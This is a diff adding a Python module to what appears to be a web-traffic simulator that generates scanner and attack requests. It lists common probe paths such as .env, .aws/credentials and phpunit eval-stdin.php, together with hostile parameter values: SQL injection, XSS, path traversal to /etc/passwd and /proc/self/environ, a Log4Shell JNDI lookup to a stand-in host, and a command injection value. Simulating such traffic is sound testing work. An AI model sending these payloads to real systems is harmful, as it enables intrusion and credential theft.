@@ -1,0 +1,63 @@
+"""Scanners and attacks: what they ask for and what they write into parameters."""
+
+from __future__ import annotations
+
+from random import Random
+
+from pipelines.simulator.vocabulary.conventions import Audience, resource
+from pipelines.simulator.vocabulary.operation import Operation, Parameter, answers
+from pipelines.simulator.vocabulary.values import Values
+
+# Paths that any host meets within hours. Some look like APIs: that they are asked for does not make them
+# exist.
+_PROBE_TEXT = """
+    wp-login.php wp-admin/setup.php xmlrpc.php .env .env.bak api/.env .git/config .aws/credentials
+    phpmyadmin/index.php pma admin/config.php cgi-bin/test.cgi actuator/env actuator/heapdump api/v1/users
+    api/v1/pods api/v2/admin graphql v1/graphql api/swagger.json solr/admin/info/system manager/html
+    boaform/admin/formLogin vendor/phpunit/eval-stdin.php server-status console/ login.action
+    owa/auth/x.js autodiscover/autodiscover.xml .DS_Store backup.sql db.zip config.json users.json
+    api/jsonws/invoke rest/api/latest/serverInfo remote/fgt_lang ecp/default.js
+    index.php%3Fid=1%27%20OR%201=1 ..%2f..%2fetc/passwd %c0%ae%c0%ae/etc/passwd
+    api/v1/..%2f..%2fproc/self/environ ${jndi:ldap://x.example/a} shell?cmd=id _ignition/execute-solution
+"""
+_PROBES = tuple(_PROBE_TEXT.split())
+# What attackers write into a parameter.
+HOSTILE = (
+    "' OR '1'='1", "1;DROP TABLE x--", "../../../../etc/passwd", "<script>alert(1)</script>",
+    "${jndi:ldap://x.example/a}",
+    "-1 UNION SELECT NULL,NULL", "|id", "%00", "A" * 300, "{{7*7}}",
+)  # fmt: skip
+_AUDIENCE: Audience = (("scanner", 1.0),)
+
+
+def scans(rng: Random, error_media: str) -> list[Operation]:
+    """Probes of a site that answers errors in `error_media` (JSON on many API hosts)."""
+    pool = Parameter("path", "path", Values("path", tuple(rng.sample(_PROBES, 25))))
+    refused = [
+        (0.7, 404, error_media, 400),
+        (0.18, 403, rng.choice((error_media, "text/html")), 500),
+        (0.05, 301, "", 0),
+    ]
+    caught = answers(
+        [
+            *refused,
+            (rng.choice((0.0, 0.02, 0.1)), 200, "text/html", 2000),
+            (0.03, 400, "text/html", 150),
+            (0.02, 401, error_media, 100),
+        ]
+    )
+    media = rng.choice(("application/x-www-form-urlencoded", "application/json", ""))
+    return [
+        resource("scan", "/{path}", caught, pool, audience=_AUDIENCE, weight=8),
+        resource(
+            "scan",
+            "/{path}",
+            caught,
+            pool,
+            method="POST",
+            audience=_AUDIENCE,
+            weight=2,
+            request_media=media,
+        ),
+        resource("scan", "/{path}", caught, pool, method="HEAD", audience=_AUDIENCE, weight=0.5),
+    ]
